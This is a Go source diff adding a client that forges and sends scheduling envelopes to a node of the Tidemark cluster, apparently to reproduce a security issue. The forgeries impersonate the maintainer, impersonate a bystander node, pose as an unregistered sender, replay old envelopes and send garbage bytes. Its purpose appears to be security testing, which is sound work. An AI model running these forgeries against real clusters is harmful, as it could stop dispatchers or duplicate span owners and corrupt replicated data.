@@ -1,0 +1,162 @@
+package wireclient
+
+import (
+	"context"
+	"fmt"
+
+	"github.com/tidemark/tidemark/dispatcher"
+	"github.com/tidemark/tidemark/heartbeatpb"
+	"github.com/tidemark/tidemark/maintainer"
+	"github.com/tidemark/tidemark/span"
+)
+
+// Target is the node attacked and what an observer knows of the cluster: its ID and address,
+// the maintainer and its epoch (ctl status), a dispatcher working on the target (Victim) and
+// one working on another node (Foreign), both from the maintainer's span listing, and another
+// registered node that is not the maintainer (Bystander).
+type Target struct {
+	ClusterID, Changefeed string
+	Node, Addr            string
+	Maintainer            string
+	Epoch                 uint64
+	Bystander             string
+	Victim, Foreign       Placement
+}
+
+// Placement is one working dispatcher as the maintainer's span listing shows it.
+type Placement struct {
+	Node       string
+	Dispatcher heartbeatpb.DispatcherID
+	Span       heartbeatpb.TableSpan
+	Mode       heartbeatpb.Mode
+	Checkpoint uint64
+}
+
+// PlacementOf reads a span listing entry.
+func PlacementOf(si maintainer.SpanInfo) (Placement, error) {
+	name, err := maintainer.ParseSpanName(si.Span)
+	if err != nil {
+		return Placement{}, fmt.Errorf("wireclient: span %q: %w", si.Span, err)
+	}
+	// The listing prints dispatcher IDs as HI.LO.
+	var id heartbeatpb.DispatcherID
+	if _, err := fmt.Sscanf(si.Dispatcher, "%d.%d", &id.Hi, &id.Lo); err != nil {
+		return Placement{}, fmt.Errorf("wireclient: dispatcher %q: want HI.LO: %w", si.Dispatcher, err)
+	}
+	mode, err := dispatcher.ParseMode(si.Mode)
+	if err != nil {
+		return Placement{}, fmt.Errorf("wireclient: mode %q: %w", si.Mode, err)
+	}
+	s := span.TableSpan(name.Table)
+	if name.Start != nil {
+		s.StartKey, s.EndKey = name.Start, name.End
+	}
+	return Placement{Node: si.Node, Dispatcher: id, Span: s, Mode: mode, Checkpoint: si.Checkpoint}, nil
+}
+
+// Attack is one stream opened under the name From, and what is sent on it.
+type Attack struct {
+	Name      string
+	From      string
+	Envelopes [][]*heartbeatpb.Envelope // batches, in order
+	Raw       [][]byte
+}
+
+// Result says whether an attack's stream was accepted and its envelopes sent.
+type Result struct {
+	Attack string
+	Err    error // nil: accepted and sent; ErrRejected: refused at the handshake
+}
+
+// Attacks builds the forgeries of issue 9 against t. A name above the target's ID cannot be
+// claimed to it (the smaller ID dials, the acceptor checks): those attacks are left out, and
+// Skipped says which.
+func Attacks(t Target) (attacks []Attack, skipped []string) {
+	add := func(a Attack) {
+		if a.From >= t.Node {
+			skipped = append(skipped, fmt.Sprintf("%s (as %q: not below %q)", a.Name, a.From, t.Node))
+			return
+		}
+		attacks = append(attacks, a)
+	}
+	higher := t.Epoch + 1
+	add(Attack{Name: "maintainer-id-higher-epoch-create", From: t.Maintainer, Envelopes: [][]*heartbeatpb.Envelope{{
+		t.envelope(t.Maintainer, higher, 1, t.create(higher, t.Foreign)),
+	}}})
+	add(Attack{Name: "maintainer-id-higher-epoch-remove", From: t.Maintainer, Envelopes: [][]*heartbeatpb.Envelope{{
+		t.envelope(t.Maintainer, higher+1000, 1, t.remove(higher+1000, t.Victim)),
+	}}})
+	add(Attack{Name: "bystander-current-epoch", From: t.Bystander, Envelopes: [][]*heartbeatpb.Envelope{{
+		t.envelope(t.Bystander, t.Epoch, 1, t.remove(t.Epoch, t.Victim)),
+		t.envelope(t.Bystander, t.Epoch, 2, t.create(t.Epoch, t.Foreign)),
+	}}})
+	add(Attack{Name: "bystander-higher-epoch-bootstrap", From: t.Bystander, Envelopes: [][]*heartbeatpb.Envelope{{
+		t.envelope(t.Bystander, higher, 1, &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_BootstrapRequest{
+			BootstrapRequest: &heartbeatpb.MaintainerBootstrapRequest{Config: heartbeatpb.ChangefeedConfig{Id: t.Changefeed}}}}),
+		t.envelope(t.Bystander, higher, 2, t.remove(higher, t.Victim)),
+	}}})
+	add(Attack{Name: "unregistered-sender", From: "0-intruder", Envelopes: [][]*heartbeatpb.Envelope{{
+		t.envelope("0-intruder", higher, 1, t.remove(higher, t.Victim)),
+		t.envelope("0-intruder", t.Epoch, 2, t.create(t.Epoch, t.Foreign)),
+	}}})
+	old := t.envelope(t.Maintainer, t.Epoch-1, 1, t.remove(t.Epoch-1, t.Victim))
+	add(Attack{Name: "replayed-old-envelopes", From: t.Maintainer, Envelopes: [][]*heartbeatpb.Envelope{{old}, {old}}})
+	add(Attack{Name: "garbage", From: "0-intruder", Raw: [][]byte{
+		{0xff, 0xff, 0xff, 0xff}, {0x0a, 0x05, 0x0a, 0x03, 'c', 'f'}, make([]byte, 64),
+	}})
+	return attacks, skipped
+}
+
+// Run opens one stream per attack, sends it, and closes it.
+func Run(ctx context.Context, t Target, attacks []Attack) []Result {
+	out := make([]Result, 0, len(attacks))
+	for _, a := range attacks {
+		out = append(out, Result{Attack: a.Name, Err: run(ctx, t, a)})
+	}
+	return out
+}
+
+func run(ctx context.Context, t Target, a Attack) error {
+	c, err := Dial(ctx, Config{Addr: t.Addr, ClusterID: t.ClusterID, From: a.From, To: t.Node})
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	for _, b := range a.Envelopes {
+		if err := c.Send(b...); err != nil {
+			return err
+		}
+	}
+	for _, raw := range a.Raw {
+		if err := c.SendRaw(raw); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// envelope heads body (a *heartbeatpb.Envelope_* value) as from's, with epoch and seq.
+func (t Target) envelope(from string, epoch, seq uint64, body *heartbeatpb.Envelope) *heartbeatpb.Envelope {
+	body.ClusterId, body.Changefeed, body.From, body.To = t.ClusterID, t.Changefeed, from, t.Node
+	body.Epoch, body.Incarnation, body.Seq = epoch, epoch, 1<<40+seq
+	return body
+}
+
+// create asks for a second owner of p's span on the target.
+func (t Target) create(epoch uint64, p Placement) *heartbeatpb.Envelope {
+	desc := heartbeatpb.OperatorDescriptor{Id: heartbeatpb.OperatorID{Epoch: epoch, Seq: 1 << 30}, Kind: heartbeatpb.OpAdd, Mode: p.Mode}
+	return &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_Schedule{Schedule: &heartbeatpb.ScheduleDispatcherRequests{Requests: []heartbeatpb.ScheduleDispatcherRequest{{
+		Config: heartbeatpb.DispatcherConfig{Id: heartbeatpb.DispatcherID{Hi: epoch, Lo: 1 << 30}, Span: p.Span,
+			Mode: p.Mode, StartTs: p.Checkpoint},
+		Action: heartbeatpb.ActionCreate, OperatorType: heartbeatpb.OpAdd, Operator: desc,
+	}}}}}
+}
+
+// remove asks the target to stop p's dispatcher.
+func (t Target) remove(epoch uint64, p Placement) *heartbeatpb.Envelope {
+	desc := heartbeatpb.OperatorDescriptor{Id: heartbeatpb.OperatorID{Epoch: epoch, Seq: 1<<30 + 1}, Kind: heartbeatpb.OpRemove, Mode: p.Mode}
+	return &heartbeatpb.Envelope{Body: &heartbeatpb.Envelope_Schedule{Schedule: &heartbeatpb.ScheduleDispatcherRequests{Requests: []heartbeatpb.ScheduleDispatcherRequest{{
+		Config: heartbeatpb.DispatcherConfig{Id: p.Dispatcher, Span: p.Span, Mode: p.Mode},
+		Action: heartbeatpb.ActionRemove, OperatorType: heartbeatpb.OpRemove, Operator: desc,
+	}}}}}
+}
